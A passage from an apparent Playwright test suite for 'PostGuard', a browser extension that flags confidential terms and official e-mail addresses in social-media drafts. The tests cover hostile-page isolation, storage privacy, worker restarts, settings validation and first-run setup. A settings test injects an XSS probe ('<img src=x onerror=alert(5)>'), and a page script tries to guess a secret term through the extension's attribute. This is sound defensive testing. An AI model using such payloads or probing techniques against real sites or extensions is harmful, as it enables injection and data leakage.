        `hosts ${q(seen.hosts)}, shadowRoot ${q(seen.shadowRoots)}, root taken by the page's constructor has ${q(seen.stolenChildren)} children; leaked: ${q(leaks)}`);

      const before = await page.locator('#ce').textContent();
      const hitName = await page.evaluate(({ x, y }) => {
        const hit = document.elementFromPoint(x, y);
        hit?.click();
        hit?.dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true, clientX: x, clientY: y }));
        hit?.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true }));
        return hit?.localName;
      }, { x: (fix.rect.left + fix.rect.right) / 2, y: (fix.rect.top + fix.rect.bottom) / 2 });
      await sleep(600);
      const after = await page.locator('#ce').textContent();
      const still = await world.evaluate(page.mainFrame(), cardInfo);
      record(G, 'the page cannot press PostGuard\'s buttons (script clicks at the fix button reach only the closed host)', before === after && !!still,
        `elementFromPoint → <${hitName}>; editor text ${before === after ? 'unchanged' : 'CHANGED'}; card ${still ? 'still open' : 'closed'}`);
      // The user presses it: the markup disclaimer lands in the editor as text.
      await page.mouse.click((fix.rect.left + fix.rect.right) / 2, (fix.rect.top + fix.rect.bottom) / 2);
      const f = await poll(async () => [await page.locator('#ce').textContent(), await page.locator('#ce img, #ce b, #ce script, #ce style').count()], ([t]) => t.includes(MARKUP_DISCLAIMER), 4000);
      record(G, 'the user\'s fix inserts the markup disclaimer as text, no elements', f.ok && f.value[1] === 0, `elements in the editor: ${f.value[1]}; text ends ${q(f.value[0].slice(-60))}`);
    } else record(G, 'the page cannot press PostGuard\'s buttons', false, again.why);
    await sleep(300);

    // No oracle: the page rewrites the field the user typed into (after the user paused) and
    // watches the attribute, guessing the confidential term. Nothing is checked until the user
    // types again; a script's focus() does not check either.
    await sleep(2000);
    const attr0 = await attrOf(page, '#ce');
    const m0 = (await stats()).received ?? {};
    const probe = await page.evaluate(async ({ secret }) => {
      const ce = document.querySelector('#ce');
      const seen = [];
      const mo = new MutationObserver(() => seen.push(ce.getAttribute('data-postguard-findings')));
      mo.observe(ce, { attributes: true, attributeFilter: ['data-postguard-findings'] });
      for (const guess of ['Project Osprey', 'Project Heron', secret]) {
        ce.textContent = `Status of ${guess} next week`;
        ce.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertText', data: 'x' }));
        ce.blur(); ce.focus();
        await new Promise((r) => setTimeout(r, 1500));
      }
      mo.disconnect();
      return { seen, attr: ce.getAttribute('data-postguard-findings') };
    }, { secret: SECRET });
    const m1 = (await stats()).received ?? {};
    const sent = (m1.check ?? 0) - (m0.check ?? 0);
    record(G, 'no oracle: a page rewriting a field the user typed into (3 guesses, with input events and focus()) sees no change of the attribute and causes no check',
      probe.seen.length === 0 && probe.attr === attr0 && sent === 0, `attribute changes seen by the page ${q(probe.seen)}; attribute ${q(probe.attr)} (before ${q(attr0)}); checks sent ${sent}`);
    // The user's next keystroke checks what is there now (the page's text, visibly the user's field).
    await page.locator('#ce').click();
    await page.keyboard.press('End');
    await page.keyboard.type(' ok', { delay: 5 });
    const fw = await poll(() => attrOf(page, '#ce'), (v) => v === 'confidential', 4000);
    record(G, '...the user\'s next keystroke checks the field again', fw.ok, `attribute ${q(fw.value)} ${fw.ms} ms after typing`);
    // An emptied field loses its findings without a check (nothing to learn from "").
    const m2 = (await stats()).received ?? {};
    await page.evaluate(() => { document.querySelector('#ce').textContent = ''; });
    const emptied = await poll(() => attrOf(page, '#ce'), (v) => v === '', 3000);
    const m3 = (await stats()).received ?? {};
    record(G, 'a field emptied by script gets "" at once, without a check', emptied.ok && (m3.check ?? 0) === (m2.check ?? 0), `attribute ${q(emptied.value)}; checks sent ${(m3.check ?? 0) - (m2.check ?? 0)}`);
    // ...while the textarea, never touched by the user, stays unchecked even when filled and focused by script.
    await page.evaluate((t) => { const ta = document.querySelector('#ta'); ta.focus(); document.execCommand('insertText', false, t); }, SNOWPLOW);
    await sleep(1200);
    const taAttr = await attrOf(page, '#ta');
    record(G, 'an untouched editor filled by script stays unchecked; the user\'s first click arms it', taAttr === null, `attribute ${q(taAttr)}`);
    await page.locator('#ta').click();
    const armed = await poll(() => attrOf(page, '#ta'), (v) => v === 'city-email disclaimer', 4000);
    record(G, '...and after a real click into it, it is checked at once', armed.ok, `attribute ${q(armed.value)} ${armed.ms} ms after the click`);
    record(G, 'no alert() ran, no page errors', dialogs.length === 0 && errors.length === 0, [...dialogs.map((d) => `dialog ${d}`), ...errors].join(' | '));
    fs.mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS, 'ext-hostile.png') });
  } finally {
    await page.close().catch(() => {});
    await storage('local', 'remove', ['confidentialTerms', 'disclaimerText']);
  }
}

// ---- (c) the service worker stopped ------------------------------------------------------------

async function stopWorker(cdp, versions) {
  const t0 = Date.now();
  const n0 = versions.length;
  await cdp.send('ServiceWorker.stopAllWorkers');
  const r = await poll(() => versions.slice(n0).some((v) => v.runningStatus === 'stopped' && v.scriptURL.startsWith('chrome-extension://')), (v) => v, 5000);
  return { ok: r.ok, ms: Date.now() - t0 };
}

// After the session above has typed SNOWPLOW and other posts into many editors: none of the
// typed text is anywhere PostGuard could keep it (every storage area, the extension origin's
// web storage, IndexedDB and Cache Storage, and the pages' own web storage), and no content
// script or extension page uses page-side storage at all.
// A 2 MB paste with 100,000 City addresses and one SSN at the very end: the page stays usable,
// the attribute is exact (the SSN's category survives the cap on findings sent to the page),
// the badge says "200+" rather than a wrong count, and the text is untouched.
async function testHugePaste({ context, record, G, stats }) {
  const { page, errors } = await openPage(context, 'mastodon.social');
  try {
    const huge = 'jdoe@rochestermn.gov '.repeat(100_000) + 'and my SSN is 212-45-5530';
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: 'https://mastodon.social' });
    await page.evaluate((x) => navigator.clipboard.writeText(x), huge);
    await page.locator('textarea').click();
    const t = Date.now();
    await page.keyboard.press('Control+V');
    const a = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email confidential', 30000);
    const ms = Date.now() - t;
    const world = await isolatedWorld(page);
    const perf = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard?.perf);
    record(G, 'a 2 MB paste is checked: → "city-email confidential" (the SSN after 100,000 addresses counts)', a.ok, `attribute ${q(a.value)} ${ms} ms after the paste`);
    // A check of the same text is not sent again while one is in flight (it used to be, every
    // second, each discarding the answer before it: the paste was never checked).
    record(G, 'one check for the paste, not one per second', perf?.checks <= 3, `content checks sent: ${perf?.checks}`);
    const badge = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-badge' }), (b) => b?.length === 1, 5000);
    const label = badge.value?.[0]?.text;
    record(G, 'the badge says "200+" (the first 200 findings and one per further category are sent, not 100,001)', label === '201+', `badge ${q(label)}`);
    const typedAfter = await poll(async () => {
      await page.keyboard.press('End');
      await page.keyboard.type(' ok');
      return page.locator('textarea').inputValue();
    }, (v) => v === `${huge} ok`, 8000);
    record(G, 'the editor stays usable and its text is exactly what was pasted and typed', typedAfter.ok, typedAfter.ok ? `${typedAfter.value.length} characters` : `length ${typedAfter.value?.length}`);
    // A long post (20,000 characters, 740 addresses): its first findings are underlined within
    // the layout budget, and the time the draws took on the page's main thread is printed.
    const long = 'Email jdoe@rochestermn.gov '.repeat(740);
    await page.evaluate((x) => navigator.clipboard.writeText(x), long);
    await page.locator('textarea').click();
    await page.keyboard.press('Control+A');
    await page.keyboard.press('Control+V');
    const b = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email', 30000);
    await page.locator('textarea').evaluate((t) => { t.scrollTop = 0; });
    const lines = await poll(() => world.evaluate(page.mainFrame(), overlayElements, { selector: '.pg-underline' }), (u) => u?.length > 0, 5000);
    const p2 = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard?.perf);
    record(G, 'a 20,000-character post is underlined (its first 2 findings: 50,000 characters of layout)', b.ok && lines.ok && lines.value.length >= 1 && lines.value.length <= 4,
      `attribute ${q(b.value)}; ${lines.value?.length} underline boxes; longest draw ${Math.round(p2?.drawMaxMs)} ms on the page's main thread`);
    const st = await stats();
    record(G, 'the background counted the capped check', st.capped >= 1, `capped ${st.capped}; check ${st.lastCheckMs} ms`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close();
  }
}

async function testNothingStored({ context, record, G, ext }) {
  const typed = ['snowplow', 'jdoe@rochestermn', 'new routes are a mess', 'Silver Lake'];
  const found = (blob) => typed.filter((t) => blob.toLowerCase().includes(t.toLowerCase()));
  // A page typed into now, kept open while every store is read (so the per-tab counts exist).
  const { page } = await openPage(context, 'mastodon.social');
  try {
    await page.locator('textarea').click();
    await page.keyboard.type(SNOWPLOW, { delay: 2 });
    const a = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    record(G, 'a post was typed and checked', a.ok, `attribute ${q(a.value)}`);
    const areas = await ext.evaluate(async () => {
      const out = {};
      for (const k of ['local', 'sync', 'session']) out[k] = JSON.stringify(await chrome.storage[k].get(null));
      out.localStorage = JSON.stringify({ ...localStorage });
      out.sessionStorage = JSON.stringify({ ...sessionStorage });
      out.indexedDB = JSON.stringify(await indexedDB.databases());
      out.caches = JSON.stringify(await caches.keys());
      return out;
    });
    const leaks = Object.entries(areas).flatMap(([k, v]) => found(v).map((t) => `${k} holds "${t}"`));
    record(G, 'no typed text in storage.local/sync/session, the extension origin\'s web storage, IndexedDB or caches',
      leaks.length === 0 && areas.indexedDB === '[]' && areas.caches === '[]',
      leaks.length ? leaks.join('; ') : Object.entries(areas).map(([k, v]) => `${k} ${v.length > 80 ? `${v.length} B` : v}`).join(', '));
    const blob = await page.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }) + document.cookie);
    const pageLeaks = found(blob).map((t) => `page web storage holds "${t}"`);
    record(G, 'no typed text in the page\'s own web storage or cookies', pageLeaks.length === 0, pageLeaks.join('; ') || `page storage ${blob.length} B`);
  } finally {
    await page.close();
  }
  const sources = fs.readdirSync(path.join(EXT, 'content')).map((f) => path.join(EXT, 'content', f))
    .concat(['background.js', 'settings.js', 'options.js', 'popup.js'].map((f) => path.join(EXT, f)));
  const uses = sources.flatMap((f) => {
    const src = fs.readFileSync(f, 'utf8');
    return ['localStorage', 'sessionStorage', 'indexedDB', 'document.cookie', 'caches.open'].filter((w) => src.includes(w)).map((w) => `${path.basename(f)}: ${w}`);
  });
  record(G, 'no content script or extension page uses web storage, IndexedDB, cookies or caches', uses.length === 0, uses.join('; '));
}

async function testWorkerStop({ context, record, G }) {
  const { page, errors } = await openPage(context, 'mastodon.social');
  try {
    const cdp = await context.newCDPSession(page);
    const versions = [];
    cdp.on('ServiceWorker.workerVersionUpdated', (e) => versions.push(...e.versions));
    await cdp.send('ServiceWorker.enable');
    const ta = page.locator('textarea');
    await ta.click();
    await page.keyboard.type(SNOWPLOW, { delay: 2 });
    const a = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    record(G, 'before: typing → "city-email disclaimer"', a.ok, `attribute ${q(a.value)}`);

    const lat = [];
    // 1. Stopped between keystrokes (the browser stopping an idle worker).
    const s1 = await stopWorker(cdp, versions);
    record(G, 'CDP ServiceWorker.stopAllWorkers stops the extension\'s worker (headless)', s1.ok, `stopped in ${s1.ms} ms`);
    await page.keyboard.press('Control+A');
    await page.keyboard.type(CLEAN, { delay: 2 });
    let t = Date.now();
    const b = await poll(() => attrOf(page, 'textarea'), (v) => v === '', 6000);
    lat.push(Date.now() - t);
    record(G, 'after a stop, the next typing is checked: clean post → ""', b.ok, `${Date.now() - t} ms after the last keystroke (300 ms debounce + worker start + check)`);
    // 2. Stopped again, then a paste (checked at once).
    await stopWorker(cdp, versions);
    await page.evaluate((x) => navigator.clipboard.writeText(x), SNOWPLOW).catch(() => {});
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: 'https://mastodon.social' });
    await page.evaluate((x) => navigator.clipboard.writeText(x), SNOWPLOW);
    await ta.focus();
    await page.keyboard.press('Control+A');
    t = Date.now();
    await page.keyboard.press('Control+V');
    const c = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    lat.push(Date.now() - t);
    record(G, 'after a stop, a paste is checked: → "city-email disclaimer"', c.ok, `${Date.now() - t} ms after the paste (worker start + check)`);
    // 3. Stopped while a check is in flight (the paste's check wakes the worker, whose start-up
    // takes a few hundred ms; it is stopped again 150 ms in): the content script asks again.
    const world = await isolatedWorld(page);
    const retries0 = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard.perf.retries);
    await page.keyboard.press('Control+A');
    await page.keyboard.type(CLEAN, { delay: 0 });
    await poll(() => attrOf(page, 'textarea'), (v) => v === '', 6000);
    await stopWorker(cdp, versions);
    await page.keyboard.press('Control+A');
    t = Date.now();
    await page.keyboard.press('Control+V');
    await sleep(150);
    await cdp.send('ServiceWorker.stopAllWorkers');
    const d = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    lat.push(Date.now() - t);
    const retries = (await world.evaluate(page.mainFrame(), () => globalThis.PostGuard.perf.retries)) - retries0;
    record(G, 'stopped again in the middle of the check that woke it: the findings still arrive', d.ok, `${Date.now() - t} ms after the paste; attribute ${q(d.value)}; the content script re-sent ${retries} message(s)`);
    // A wake that needs no checker builds none: the worker stopped, a tab closes. (The page
    // gets the focus back when the tab closes: more than a second after the last keystroke,
    // that focus is not the user's and asks for no check, see content/main.js onFocusIn.)
    await sleep(1100);
    const checks0 = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard.perf.checks);
    await stopWorker(cdp, versions);
    const extra = await context.newPage();
    await extra.goto('https://mastodon.social/');
    await extra.close();
    await sleep(500);
    const checks1 = await world.evaluate(page.mainFrame(), () => globalThis.PostGuard.perf.checks);
    const ext = context.pages().find((p) => p.url().startsWith('chrome-extension://'));
    const peek = ext ? await ext.evaluate(() => chrome.runtime.sendMessage({ type: 'stats', peek: true })) : null;
    record(G, 'a tab closing wakes the worker without building a Checker (no needless cold start)', peek?.stats?.checksBuilt === undefined && peek?.stats?.checkersBuilt === 0 && (peek?.stats?.received?.check ?? 0) === 0,
      `since the stop: checkers built ${peek?.stats?.checkersBuilt}; messages ${q(peek?.stats?.received)}; checks the first page asked for ${checks1 - checks0}`);
    const starts = versions.filter((v) => v.scriptURL.startsWith('chrome-extension://') && v.runningStatus === 'running').length;
    console.log(`  worker restarts: ${starts} "running" transitions seen; latencies after a stop: ${lat.join(', ')} ms`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close().catch(() => {});
  }
}

// ---- (d) corrupt settings ----------------------------------------------------------------------

async function testSettings({ context, record, G, storage, extOrigin }) {
  const many = Array.from({ length: 20000 }, (_, i) => `Codename${i}`);
  const managed = {
    role: 'mayor',
    emailDomains: ['not a domain', 'Ok.Example.gov', '@city.example.org', 42, '<img src=x onerror=alert(5)>'],
    confidentialTerms: [SECRET, 'x', '(.*', 'Project [Falcon(', ...many],
    disabledRules: ['nope.rule', 'conduct.profanity'],
    severity: { 'conduct.profanity': 'fatal', 'conduct.slur': 'info' },
    disclaimerText: ['not', 'a', 'string'],
  };
  const sync = {
    role: 42, defaultMode: { mode: 'city' }, emailDomains: 5, confidentialTerms: { term: 'x' },
    modeRules: 'https://x.com/RochesterMNGov', disabledRules: [1, 'not a rule'], severity: [1, 2],
    sites: 7, pausedSites: ['bad host!', 'Reddit.com'], bogusKey: [1, 2, 3], disclaimers: ['!!', '<b>Views are mine</b>'],
  };
  // The managed policy, stubbed in the worker (a real policy needs root and would reach every
  // Chromium on the machine); then storage.local, whose change makes the worker reload both.
  let w = await extensionWorker(context);
  const stubbed = await w.evaluate((m) => {
    const area = chrome.storage.managed;
    area.__realGet ??= area.get;
    area.get = async () => structuredClone(m);
    return area.get !== area.__realGet;
  }, managed).catch((e) => `failed: ${e.message}`);
  record(G, 'managed policy stubbed in the worker (chrome.storage.managed.get)', stubbed === true, String(stubbed));
  await storage('local', 'set', sync);
  await sleep(500);

  const opt = await context.newPage();
  const optErrors = [];
  opt.on('pageerror', (e) => optErrors.push(e.message));
  opt.on('console', (m) => { if (m.type() === 'error') optErrors.push(m.text()); });
  const t0 = Date.now();
  await opt.goto(`${extOrigin}/options.html`);
  const shown = await poll(() => opt.evaluate(() => ({
    visible: !document.getElementById('problems').hidden,
    items: [...document.querySelectorAll('#problem-list li')].map((li) => ({ key: li.dataset.key, source: li.dataset.source, text: li.textContent })),
    perField: [...document.querySelectorAll('.field-problem')].map((p) => p.closest('.field')?.dataset.key),
    markup: document.querySelectorAll('#problems b, #problems img, .field-problem b').length,
    role: document.getElementById('role').value,
  })), (v) => v.visible && v.items.some((i) => i.source === 'engine'), 15000);
  const v = shown.value;
  fs.mkdirSync(SHOTS, { recursive: true });
  await opt.screenshot({ path: path.join(SHOTS, 'ext-options-problems.png'), fullPage: true });
  const named = (key, source) => v.items?.some((i) => i.key === key && i.source === source);
  const expect = [
    ['role', 'managed'], ['role', 'local'], ['defaultMode', 'local'], ['emailDomains', 'managed'], ['emailDomains', 'local'],
    ['confidentialTerms', 'managed'], ['confidentialTerms', 'local'], ['modeRules', 'local'], ['disabledRules', 'local'],
    ['severity', 'managed'], ['severity', 'local'], ['sites', 'local'], ['pausedSites', 'local'], ['bogusKey', 'local'],
    ['disclaimerText', 'managed'], ['disclaimers', 'local'],
  ];
  const missing = expect.filter(([k, s]) => !named(k, s)).map(([k, s]) => `${k}/${s}`);
  record(G, 'the options page names every bad field and where it came from (policy or user), as text', shown.ok && missing.length === 0 && v.markup === 0,
    missing.length ? `not named: ${missing.join(', ')}; shown: ${q(v.items?.map((i) => `${i.key}/${i.source}`))}` : `${v.items.length} problems listed in ${Date.now() - t0} ms, ${v.perField.length} next to their fields`);
  const huge = v.items?.find((i) => i.key === 'confidentialTerms' && /20004 entries/.test(i.text));
  record(G, 'a huge list (20,004 confidential terms) is cut to the limit and reported', !!huge, huge?.text ?? 'no "20004 entries" message');
  const engine = v.items?.find((i) => i.source === 'engine');
  record(G, 'a policy override the engine rejects is shown with the engine\'s message naming the field', !!engine && engine.key === 'disabledRules' && /options\.policy\.disable\[0\]/.test(engine.text), engine?.text ?? 'none');
  const dom = v.items?.find((i) => i.key === 'emailDomains' && i.source === 'managed' && /not a domain/.test(i.text));
  record(G, 'an invalid e-mail domain is named', !!dom, dom?.text ?? 'none');
  record(G, 'the role falls back to the user\'s, then to the default', v.role === 'staff', `role select shows ${q(v.role)}`);
  record(G, 'the options page has no errors', optErrors.length === 0, optErrors.join(' | '));

  // Checking goes on, with what survived: the policy's confidential term and extra domain.
  const { page, errors } = await openPage(context, 'mastodon.social');
  try {
    await page.locator('textarea').click();
    await page.keyboard.type(`${SECRET} update: write to jdoe@ok.example.gov`, { delay: 2 });
    const a = await poll(() => attrOf(page, 'textarea'), (x) => x !== null && x.split(' ').includes('confidential') && x.split(' ').includes('city-email'), 8000);
    record(G, 'the content script keeps checking, with the valid parts of the policy (its confidential term, its extra domain)', a.ok, `attribute ${q(a.value)}`);
    await page.keyboard.press('Control+A');
    await page.keyboard.type(SNOWPLOW, { delay: 0 });
    const b = await poll(() => attrOf(page, 'textarea'), (x) => x === 'city-email disclaimer', 6000);
    record(G, '...and the default checks (snowplow post → "city-email disclaimer")', b.ok, `attribute ${q(b.value)}`);
    await page.keyboard.press('Control+A');
    await page.keyboard.type('Meeting about Project [Falcon( tomorrow at nine.', { delay: 0 });
    const c = await poll(() => attrOf(page, 'textarea'), (x) => x === 'confidential', 6000);
    const regexy = v.items?.find((i) => i.key === 'confidentialTerms' && i.text.includes('"(.*"'));
    record(G, 'regex-looking terms: "(.*" is named and left out, "Project [Falcon(" is matched literally', c.ok && !!regexy, `attribute ${q(c.value)}; ${regexy?.text ?? 'no message about "(.*"'}`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close().catch(() => {});
    await opt.close().catch(() => {});
    w = await extensionWorker(context).catch(() => null);
    await w?.evaluate(() => { const a = chrome.storage.managed; if (a.__realGet) { a.get = a.__realGet; delete a.__realGet; } }).catch(() => {});
    await storage('local', 'remove', [...Object.keys(sync)]);
  }
}

// ---- the popup and options pages (part of the network session) ---------------------------------

async function testPopup({ context, record, G, ext, extOrigin }) {
  const { page, errors } = await openPage(context, 'mastodon.social');
  try {
    await page.locator('textarea').click();
    await page.keyboard.type(SNOWPLOW, { delay: 0 });
    await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    const tabId = await ext.evaluate(async () => (await chrome.tabs.query({ url: 'https://mastodon.social/*' }))[0]?.id);
    const popup = await context.newPage();
    await popup.goto(`${extOrigin}/popup.html?tab=${tabId}`);
    const st = await poll(() => popup.locator('#status').textContent(), (v) => /Active on mastodon\.social/.test(v), 4000);
    const count = await popup.locator('#count').textContent();
    record(G, 'popup (as a tab) shows the tab\'s status and count', st.ok && count === '2', `${q(st.value)}, count ${q(count)}`);
    await popup.locator('#pause').click();
    const paused = await poll(() => attrOf(page, 'textarea'), (v) => v === null, 4000);
    record(G, 'pausing the site in the popup removes the attribute', paused.ok, `attribute ${q(paused.value)}`);
    await popup.locator('#pause').click();
    await page.locator('textarea').click();
    await page.keyboard.press('End');
    await page.keyboard.type(' ', { delay: 0 });
    const back = await poll(() => attrOf(page, 'textarea'), (v) => v === 'city-email disclaimer', 6000);
    record(G, 'resuming brings the findings back', back.ok, `attribute ${q(back.value)}`);
    const opened = context.waitForEvent('page', { timeout: 5000 }).catch(() => null);
    await popup.locator('#options').click();
    const opt = await opened;
    if (opt) {
      await opt.waitForLoadState('load').catch(() => {});
      await opt.locator('#role').selectOption('council');
      await opt.locator('#confidentialTerms').fill('Project Kestrel');
      await opt.locator('#disclaimerText').click();
      await sleep(500);
      const saved = await ext.evaluate(() => chrome.storage.local.get(['role', 'confidentialTerms']));
      const synced = await ext.evaluate(() => chrome.storage.sync.get(null));
      record(G, 'the popup\'s Settings button opens the options page; changes are saved in storage.local, nothing in storage.sync', saved.role === 'council' && saved.confidentialTerms?.[0] === 'Project Kestrel' && Object.keys(synced).length === 0, `local ${q(saved)}; sync ${q(synced)}`);
      // Saved as the user types (no blur needed).
      await opt.locator('#confidentialTerms').click();
      await opt.keyboard.press('End');
      await opt.keyboard.type('\nProject Osprey', { delay: 5 });
      const typed = await poll(() => ext.evaluate(() => chrome.storage.local.get('confidentialTerms')), (v) => v.confidentialTerms?.includes('Project Osprey'), 3000);
      record(G, 'a list field is saved as the user types, without leaving it', typed.ok, q(typed.value));
      await opt.close();
    } else record(G, 'the popup\'s Settings button opens the options page', false, 'no new page');
    await popup.close();
    await ext.evaluate(() => chrome.storage.local.remove(['role', 'confidentialTerms', 'pausedSites']));
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close().catch(() => {});
  }
}

// ---- private settings --------------------------------------------------------------------------

async function testPrivate({ context, record, G, storage, bg }) {
  await storage('local', 'set', { confidentialTerms: [SECRET] });
  const { page, errors } = await openPage(context, 'mastodon.social');
  try {
    const world = await isolatedWorld(page);
    // What a content script (or a compromised renderer speaking as one) can ask for.
    const asked = await world.evaluate(page.mainFrame(), async () => {
      const out = {};
      for (const type of ['settings', 'stats', 'tab-status', 'rules', 'set-mode', 'sync-sites']) {
        try { out[type] = await chrome.runtime.sendMessage({ type, tabId: 1 }); } catch (e) { out[type] = { thrown: String(e.message) }; }
      }
      try { out.storage = await chrome.storage.local.get(null); } catch (e) { out.storage = { thrown: String(e.message) }; }
      out.storageApi = typeof chrome.storage?.local?.get;
      return out;
    });
    const refused = ['settings', 'stats', 'tab-status', 'rules', 'set-mode', 'sync-sites'].filter((t) => asked[t]?.ok === false && /refused/.test(asked[t].error));
    record(G, 'a content-script request for settings, stats, tab status, rules, mode or sites is refused', refused.length === 6 && !JSON.stringify(asked).slice(0, 5000).includes(SECRET),
      `refused: ${refused.join(', ')}; answers ${JSON.stringify(asked).slice(0, 300)}`);
    const leaked = JSON.stringify(asked.storage ?? {}).includes(SECRET);
    record(G, 'a content script cannot read storage.local (the confidential terms)', !leaked && (!!asked.storage?.thrown || Object.keys(asked.storage ?? {}).length === 0),
      `storage.local.get in the content script: ${q(JSON.stringify(asked.storage).slice(0, 160))}`);
    // What the content script does get: findings for the user's own text, never the term list.
    await page.locator('textarea').click();
    await page.keyboard.type(`${SECRET} update tomorrow.`, { delay: 2 });
    const a = await poll(() => attrOf(page, 'textarea'), (v) => v === 'confidential', 6000);
    record(G, 'the content script still gets the findings (attribute "confidential")', a.ok, `attribute ${q(a.value)}`);
  } finally {
    await page.close().catch(() => {});
  }
  // An older version kept settings in storage.sync (the browser-sync cloud): they move to
  // storage.local and leave sync.
  await storage('local', 'remove', ['confidentialTerms']);
  await storage('sync', 'set', { confidentialTerms: ['Project Migrate'], role: 'police' });
  const moved = await poll(async () => [await storage('sync', 'get', null), await storage('local', 'get', ['confidentialTerms', 'role'])],
    ([sy, lo]) => Object.keys(sy).length === 0 && lo.confidentialTerms?.[0] === 'Project Migrate' && lo.role === 'police', 4000);
  record(G, 'settings found in storage.sync move to storage.local, and storage.sync is emptied', moved.ok, `sync ${q(moved.value[0])}; local ${q(moved.value[1])}`);
  const res = await bg({ type: 'settings' });
  record(G, 'the extension\'s own pages still get the settings', res?.ok === true && res.settings.role === 'police', `role ${q(res?.settings?.role)}`);
  await storage('local', 'remove', ['confidentialTerms', 'role']);
  record(G, 'no page errors', errors.length === 0, errors.join(' | '));
}

// ---- first-run set-up ----------------------------------------------------------------------------

async function testWelcome({ context, record, G, extOrigin }) {
  const found = await poll(() => context.pages().find((p) => p.url().startsWith(`${extOrigin}/welcome.html`)) ?? null, (p) => !!p, 5000);
  record(G, 'on install, the welcome page opens by itself', found.ok, found.ok ? found.value.url() : `pages: ${context.pages().map((p) => p.url()).join(', ')}`);
  let page = found.value;
  if (!page) { page = await context.newPage(); await page.goto(`${extOrigin}/welcome.html`); }
  const errors = [];
  page.on('pageerror', (e) => errors.push(e.message));
  try {
    await page.waitForLoadState('load');
    // The form takes answers once the settings are in (welcome.js clears `inert`).
    await page.waitForSelector('html[data-ready="true"]', { timeout: 10000 });
    await page.setViewportSize({ width: 760, height: 900 });
    const promise = await page.locator('#promise').textContent();
    fs.mkdirSync(SHOTS, { recursive: true });
    await page.screenshot({ path: path.join(SHOTS, 'ext-welcome.png'), fullPage: true });
    record(G, 'it asks the role, whether they manage City accounts and which, the sites, with the privacy promise', (await page.locator('input[name="role"]').count()) === 5
      && (await page.locator('input[name="manages"]').count()) === 2 && /never sends what you type/.test(promise), q(promise.slice(0, 80)));
    await page.locator('input[name="role"][value="council"]').check();
    await page.locator('input[name="manages"][value="yes"]').check();
    // If the accounts box stays hidden, say what the page shows instead of timing out.
    const box = await page.waitForSelector('#cityAccounts', { state: 'visible', timeout: 5000 }).then(() => null)
      .catch(async () => `accounts box still hidden; page error line: ${q(await page.locator('#error').textContent())}`);
    record(G, 'answering "yes, I manage City accounts" shows the accounts box', box === null, box ?? 'visible');
    await page.locator('#cityAccounts').fill('@RochesterMNGov\nfacebook:100064512345678', { timeout: 5000 });
    await page.locator('#done').click();
    const saved = await poll(() => page.evaluate(() => chrome.storage.local.get(['role', 'cityAccounts', 'welcomed'])), (v) => v.welcomed === true, 3000);
    const sync = await page.evaluate(() => chrome.storage.sync.get(null));
    record(G, 'its answers are saved (storage.local, nothing in sync)', saved.ok && saved.value.role === 'council' && saved.value.cityAccounts?.length === 2 && Object.keys(sync).length === 0, `${q(saved.value)}; sync ${q(sync)}`);
    // The organisation's policy sets the role: no welcome page. Without it: the page opens.
    const w = await extensionWorker(context);
    const opens = async (managed) => {
      await w.evaluate(async (m) => {
        await chrome.storage.local.remove('welcomed');
        const area = chrome.storage.managed;
        area.__realGet ??= area.get;
        area.get = async () => structuredClone(m);
      }, managed);
      const before = context.pages().length;
      await w.evaluate(() => globalThis.PostGuardWelcome({ reason: 'install' }));
      await sleep(800);
      const n = context.pages().length - before;
      for (const p of context.pages().slice(before)) await p.close().catch(() => {});
      return n;
    };
    const withPolicy = await opens({ role: 'police' });
    const without = await opens({});
    await w.evaluate(() => { const a = chrome.storage.managed; if (a.__realGet) { a.get = a.__realGet; delete a.__realGet; } });
    record(G, 'a managed policy that sets the role skips the welcome page (without one it opens)', withPolicy === 0 && without === 1, `pages opened: with policy ${withPolicy}, without ${without}`);
    record(G, 'no page errors', errors.length === 0, errors.join(' | '));
  } finally {
    await page.close().catch(() => {});
    await context.pages()[0]?.evaluate?.(() => 0).catch(() => {});
  }
}

// ---- mode from the posting account -------------------------------------------------------------

// Per site family: how the page shows who posts, and how to switch it (what the user does with
// the site's own account switcher), in the page's world.
const IDENTITY = {
  'x.com': {
    city: () => { for (const e of document.querySelectorAll('[data-testid^="UserAvatar-Container-"]')) e.dataset.testid = 'UserAvatar-Container-RochesterMNGov'; document.querySelector('[data-testid="SideNav_AccountSwitcher_Button"] span:last-child').textContent = '@RochesterMNGov'; document.querySelector('[data-testid="AppTabBar_Profile_Link"]').setAttribute('href', '/RochesterMNGov'); },
    personal: () => { for (const e of document.querySelectorAll('[data-testid^="UserAvatar-Container-"]')) e.dataset.testid = 'UserAvatar-Container-jdoe_mn'; document.querySelector('[data-testid="SideNav_AccountSwitcher_Button"] span:last-child').textContent = '@jdoe_mn'; document.querySelector('[data-testid="AppTabBar_Profile_Link"]').setAttribute('href', '/jdoe_mn'); },
    field: '[data-testid="tweetTextarea_0"]', why: '@RochesterMNGov',
  },
  'www.facebook.com': {
    open: '[data-open-composer]',
